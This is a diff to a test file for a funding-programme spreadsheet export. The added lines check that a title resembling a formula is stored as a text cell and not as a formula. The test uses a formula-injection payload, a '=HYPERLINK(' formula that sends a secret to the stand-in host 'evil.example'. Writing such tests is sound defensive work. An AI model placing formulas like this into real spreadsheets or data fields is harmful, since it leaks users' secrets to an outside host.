@@ -323,6 +323,9 @@ describe('Aktionsraumfonds after the decision', () => {
       for (const text of ['Bewilligt (EUR)', apps.approved.title, contact.email, personName, 'bewilligt']) expect(xml).toContain(text);
       const sheet = strFromU8(files['xl/worksheets/sheet1.xml']);
       expect((sheet.match(/<row /g) ?? []).length).toBe(all().length + 1);
+      // Text stays text: a title that looks like a formula is a string cell, never a formula.
+      expect(sheet).not.toContain('<f>');
+      expect(xml).toMatch(new RegExp(`<t[^>]*>=HYPERLINK\\((&quot;|")http://evil.example/${secret}`));
       // Amounts are numbers (euros with two decimals), not text.
       expect(sheet).toMatch(/<v>1200<\/v>|<v>1200\.00<\/v>/);
     });
